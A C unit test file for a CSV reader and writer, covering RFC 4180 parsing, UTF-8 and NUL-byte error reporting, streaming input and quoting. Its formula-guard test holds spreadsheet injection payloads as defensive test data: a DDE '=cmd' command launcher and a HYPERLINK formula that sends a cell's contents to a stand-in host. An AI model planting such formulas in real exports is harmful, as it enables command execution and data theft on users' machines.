/* test_csv.c -- the RFC 4180 reader (table-driven; each case also fed one
 * byte at a time and read through a FILE) and the writer. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/buf.h"
#include "base/csv.h"

/* Each record prints as "LINE:[f1][f2]\n", each error as "E msg\n". */
struct csv_case {
	const char *input;
	size_t max_record, max_fields;	/* 0: defaults */
	const char *expect;
};

static const struct csv_case cases[] = {
	{ "a,b\nc,d\n", 0, 0, "1:[a][b]\n2:[c][d]\n" },
	{ "a,b\r\nc,d\r\n", 0, 0, "1:[a][b]\n2:[c][d]\n" },
	{ "a,b\nc", 0, 0, "1:[a][b]\n2:[c]\n" },
	{ "", 0, 0, "" },
	{ "\"a,b\",\"say \"\"hi\"\"\"\n", 0, 0, "1:[a,b][say \"hi\"]\n" },
	{ "\"x\ny\",z\nq\n", 0, 0, "1:[x\ny][z]\n3:[q]\n" },
	{ "\"x\r\ny\",z\r\nq\r\n", 0, 0, "1:[x\r\ny][z]\n3:[q]\n" },
	{ "\xEF\xBB\xBF" "email\nx@y.org\n", 0, 0, "1:[email]\n2:[x@y.org]\n" },
	{ "\xEF\xBB", 0, 0, "E t:1: invalid UTF-8 (the file ends inside a "
	  "character)\n" },
	{ "a\n\n\r\n\nb\n", 0, 0, "1:[a]\n5:[b]\n" },
	{ ",,\n", 0, 0, "1:[][][]\n" },
	{ "a,", 0, 0, "1:[a][]\n" },
	{ "\"\"\n\"\"", 0, 0, "1:[]\n2:[]\n" },
	{ "a\rb\r", 0, 0, "1:[a]\n2:[b]\n" },
	{ "Иван Петров,Čeněk Šťastný\n", 0, 0,
	  "1:[Иван Петров][Čeněk Šťastný]\n" },
	{ "a\n\"b,c\nd\n", 0, 0,
	  "1:[a]\nE t:2: unterminated quote: the quoted field opened on "
	  "this line is never closed\n" },
	{ "ab\"c,d\ne\n", 0, 0,
	  "E t:1: stray quote in unquoted field 1 (quote the whole field "
	  "and write \"\" for a quote)\n2:[e]\n" },
	{ "\"ab\"c\nx\n", 0, 0,
	  "E t:1: text after the closing quote of field 1 (a quote inside "
	  "a quoted field is written \"\")\n2:[x]\n" },
	{ "\"multi\nline\" junk\nok\n", 0, 0,
	  "E t:2: text after the closing quote of field 1 (a quote inside "
	  "a quoted field is written \"\")\n3:[ok]\n" },
	{ "ok\n\xff\nz\n", 0, 0, "1:[ok]\nE t:2: invalid UTF-8 (save the "
	  "file as \"CSV UTF-8\")\n3:[z]\n" },
	{ "x,\xC0\xAF\ny\n", 0, 0, "E t:1: invalid UTF-8 (save the file as "
	  "\"CSV UTF-8\")\n2:[y]\n" },
	{ "\xED\xA0\x80\n", 0, 0, "E t:1: invalid UTF-8 (save the file as "
	  "\"CSV UTF-8\")\n" },
	{ "a\xC3\nb\n", 0, 0, "E t:1: invalid UTF-8 (save the file as "
	  "\"CSV UTF-8\")\n2:[b]\n" },
	{ "a\xC3", 0, 0, "E t:1: invalid UTF-8 (the file ends inside a "
	  "character)\n" },
	{ "\xF0\x9F\x98\x80,\xF4\x8F\xBF\xBF\n", 0, 0,
	  "1:[\xF0\x9F\x98\x80][\xF4\x8F\xBF\xBF]\n" },
	{ "a,b,c,d\ne\n", 0, 3, "E t:1: more than 3 fields\n2:[e]\n" },
	{ "a,b,c\n", 0, 3, "1:[a][b][c]\n" },
	{ "abcdef\nab\n", 5, 0, "E t:1: record longer than 5 bytes\n2:[ab]\n" },
	{ "\"ab\ncdef\"\nabcde\n", 5, 0,
	  "E t:1: record longer than 5 bytes\n3:[abcde]\n" },
};

/* Inputs with NUL bytes, so given with their length. */
static const struct {
	struct csv_case c;
	size_t len;
} nul_cases[] = {
	/* a NUL would end the C string: the field cut short, silently */
	{ { "a,b\0c\nd\n", 0, 0, "E t:1: a NUL byte in field 2 (the file "
	    "is not plain text: save it as \"CSV UTF-8\")\n2:[d]\n" }, 8 },
	{ { "ok\n\"x\ny\0\"\nz\n", 0, 0, "1:[ok]\nE t:3: a NUL byte in "
	    "field 1 (the file is not plain text: save it as \"CSV "
	    "UTF-8\")\n4:[z]\n" }, 12 },
	{ { "\0\n", 0, 0, "E t:1: a NUL byte in field 1 (the file is not "
	    "plain text: save it as \"CSV UTF-8\")\n" }, 2 },
};

static void
show(struct csv_reader *r, int rc, const struct err *e, struct buf *out)
{
	if (rc < 0) {
		buf_printf(out, "E %s\n", e->msg);
		return;
	}
	buf_printf(out, "%ld:", csv_line(r));
	for (size_t i = 0; i < csv_nfields(r); i++)
		buf_printf(out, "[%s]", csv_field(r, i));
	buf_addc(out, '\n');
}

static void
drain(struct csv_reader *r, struct buf *out)
{
	struct err e;
	int rc;

	while ((rc = csv_next(r, &e)) != 0)
		show(r, rc, &e, out);
}

static void
run_memory(const struct csv_case *c, size_t len, struct buf *out)
{
	struct csv_reader *r = csv_new_memory(c->input, len, "t",
					      c->max_record, c->max_fields);
	drain(r, out);
	csv_free(&r);
	assert_null(r);
}

/* Dovecot's rule: a streaming parser must not care where chunks end. */
static void
run_bytewise(const struct csv_case *c, size_t len, struct buf *out)
{
	struct csv_reader *r = csv_new("t", c->max_record, c->max_fields);

	for (size_t i = 0; i < len; i++) {
		csv_feed(r, c->input + i, 1);
		drain(r, out);
	}
	csv_feed_end(r);
	drain(r, out);
	csv_free(&r);
}

static void
run_file(const struct csv_case *c, size_t len, struct buf *out)
{
	FILE *fp = tmpfile();
	struct csv_reader *r;

	assert_non_null(fp);
	fwrite(c->input, 1, len, fp);
	rewind(fp);
	r = csv_new_file(fp, "t", c->max_record, c->max_fields);
	drain(r, out);
	csv_free(&r);
	fclose(fp);
}

static void
test_reader_table(void **state)
{
	void (*runs[])(const struct csv_case *, size_t, struct buf *) = {
		run_memory, run_bytewise, run_file
	};

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		for (size_t k = 0; k < 3; k++) {
			struct buf out;

			buf_init(&out, 0);
			runs[k](&cases[i], strlen(cases[i].input), &out);
			if (strcmp(buf_cstr(&out), cases[i].expect) != 0)
				print_error("case %zu run %zu: input '%s'\n",
					    i, k, cases[i].input);
			assert_string_equal(buf_cstr(&out), cases[i].expect);
			buf_free(&out);
		}
	}
}

/* A NUL byte is an error naming FILE:LINE, fed whole, bytewise or from
 * a FILE; the reader goes on at the next line. */
static void
test_reader_nul(void **state)
{
	void (*runs[])(const struct csv_case *, size_t, struct buf *) = {
		run_memory, run_bytewise, run_file
	};

	(void)state;
	for (size_t i = 0; i < sizeof(nul_cases) / sizeof(nul_cases[0]); i++)
		for (size_t k = 0; k < 3; k++) {
			struct buf out;

			buf_init(&out, 0);
			runs[k](&nul_cases[i].c, nul_cases[i].len, &out);
			if (strcmp(buf_cstr(&out), nul_cases[i].c.expect))
				print_error("NUL case %zu run %zu\n", i, k);
			assert_string_equal(buf_cstr(&out),
					    nul_cases[i].c.expect);
			buf_free(&out);
		}
}

/* Push mode says "need more" (0) without losing the partial record. */
static void
test_push_needs_more(void **state)
{
	struct csv_reader *r = csv_new("p", 0, 0);
	struct err e;

	(void)state;
	csv_feed(r, "\"a", 2);
	assert_int_equal(csv_next(r, &e), 0);
	csv_feed(r, "\nb\",c", 5);
	assert_int_equal(csv_next(r, &e), 0);
	csv_feed(r, "\r\n", 2);
	assert_int_equal(csv_next(r, &e), 1);
	assert_int_equal(csv_nfields(r), 2);
	assert_string_equal(csv_field(r, 0), "a\nb");
	assert_string_equal(csv_field(r, 1), "c");
	assert_string_equal(csv_field(r, 2), "");	/* past the end */
	assert_int_equal(csv_line(r), 1);
	assert_string_equal(csv_name(r), "p");
	csv_feed_end(r);
	assert_int_equal(csv_next(r, &e), 0);
	csv_free(&r);
	csv_free(&r);	/* a second free is harmless */
}

/* A big file crosses the reader's internal chunk size. */
static void
test_file_many_records(void **state)
{
	FILE *fp = tmpfile();
	struct csv_reader *r;
	struct err e;
	long n = 0;
	int rc;

	(void)state;
	for (int i = 0; i < 5000; i++)
		fprintf(fp, "user%d@example.org,\"Име %d, \"\"q\"\"\"\r\n", i, i);
	rewind(fp);
	r = csv_new_file(fp, "big.csv", 0, 0);
	while ((rc = csv_next(r, &e)) == 1) {
		char want[64];

		snprintf(want, sizeof(want), "Име %ld, \"q\"", n);
		assert_string_equal(csv_field(r, 1), want);
		assert_int_equal(csv_line(r), n + 1);
		n++;
	}
	assert_int_equal(rc, 0);
	assert_int_equal(n, 5000);
	csv_free(&r);
	fclose(fp);
}

static void
test_quote_table(void **state)
{
	static const struct { const char *in, *out; } t[] = {
		{ "plain", "plain" },
		{ "", "" },
		{ NULL, "" },
		{ "a,b", "\"a,b\"" },
		{ "say \"x\"", "\"say \"\"x\"\"\"" },
		{ "two\nlines", "\"two\nlines\"" },
		{ "cr\r", "\"cr\r\"" },
		{ " lead", "\" lead\"" },
		{ "trail ", "\"trail \"" },
		{ "Иван", "Иван" },
		{ "a;b", "\"a;b\"" },
		{ "a\tb", "\"a\tb\"" },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		struct buf b;

		buf_init(&b, 0);
		assert_int_equal(csv_quote(&b, t[i].in), 0);
		assert_string_equal(buf_cstr(&b), t[i].out);
		buf_free(&b);
	}
}

/* OWASP's rule for cells a spreadsheet would evaluate: a leading ',
 * numbers left alone; and csv_unguard undoes exactly what was added. */
static void
test_cell_guard(void **state)
{
	static const struct { const char *in, *out; } t[] = {
		{ "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0" },
		{ "=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")",
		  "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"ok\"\")\"" },
		{ "+1+2", "'+1+2" },
		{ "-2+3", "'-2+3" },
		{ "@SUM(A1:A2)", "'@SUM(A1:A2)" },
		{ "\t=1+1", "\"'\t=1+1\"" },
		{ "\tplain", "\"'\tplain\"" },
		{ "\r=1+1", "\"'\r=1+1\"" },
		{ " =1+1", "' =1+1" },
		{ "\n@x", "\"'\n@x\"" },
		{ "-", "'-" },
		{ "--5", "'--5" },
		{ "-5-", "'-5-" },
		{ "-5e", "'-5e" },
		{ "-0x10", "'-0x10" },
		{ "'=x", "''=x" },	/* one more: unguard gives "'=x" */
		/* numbers stay numbers */
		{ "-5", "-5" },
		{ "-3.5", "-3.5" },
		{ "+7", "+7" },
		{ "-.5", "-.5" },
		{ "-1e3", "-1e3" },
		{ "-2.5E-3", "-2.5E-3" },
		{ "42", "42" },
		{ " -5", "\" -5\"" },
		{ "'-5", "'-5" },
		/* not formulas */
		{ "a=b", "a=b" },
		{ "x@example.org", "x@example.org" },
		{ "'quoted", "'quoted" },
		{ "", "" },
		{ NULL, "" },
		/* another separator: quoted so it cannot split the cell */
		{ "a;=1+1", "\"a;=1+1\"" },
		{ "a\t=1+1", "\"a\t=1+1\"" },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		struct csv_reader *r;
		struct buf b;
		struct err e;

		buf_init(&b, 0);
		assert_int_equal(csv_cell(&b, t[i].in), 0);
		if (strcmp(buf_cstr(&b), t[i].out) != 0)
			print_error("case %zu\n", i);
		assert_string_equal(buf_cstr(&b), t[i].out);
		if (t[i].in != NULL && *t[i].in) {
			/* read back and unguarded: the value itself */
			buf_adds(&b, "\r\n");
			r = csv_new_memory(b.data, b.len, "g", 0, 0);
			assert_int_equal(csv_next(r, &e), 1);
			assert_string_equal(csv_unguard(csv_field(r, 0)),
					    t[i].in);
			csv_free(&r);
		}
		buf_free(&b);
	}
}

/* What the writer writes, the reader reads back unchanged. */
static void
test_write_read_roundtrip(void **state)
{
	const char *row[] = { "a,b", "say \"x\"", "two\r\nlines", "", NULL,
			      "Čeněk" };
	char *mem = NULL;
	size_t len = 0;
	FILE *fp = open_memstream(&mem, &len);
	struct csv_reader *r;
	struct err e;

	(void)state;
	assert_int_equal(csv_write_row(fp, row, 6), 0);
	assert_int_equal(csv_write_row(fp, row, 1), 0);
	fclose(fp);
	assert_string_equal(mem, "\"a,b\",\"say \"\"x\"\"\",\"two\r\nlines\","
			    ",,Čeněk\r\n\"a,b\"\r\n");
	r = csv_new_memory(mem, len, "rt", 0, 0);
	assert_int_equal(csv_next(r, &e), 1);
	assert_int_equal(csv_nfields(r), 6);
	for (size_t i = 0; i < 6; i++)
		assert_string_equal(csv_field(r, i), row[i] ? row[i] : "");
	assert_int_equal(csv_next(r, &e), 1);
	assert_int_equal(csv_line(r), 3);
	assert_int_equal(csv_next(r, &e), 0);
	csv_free(&r);
	free(mem);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_reader_table),
		cmocka_unit_test(test_reader_nul),
		cmocka_unit_test(test_push_needs_more),
		cmocka_unit_test(test_file_many_records),
		cmocka_unit_test(test_quote_table),
		cmocka_unit_test(test_cell_guard),
		cmocka_unit_test(test_write_read_roundtrip),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
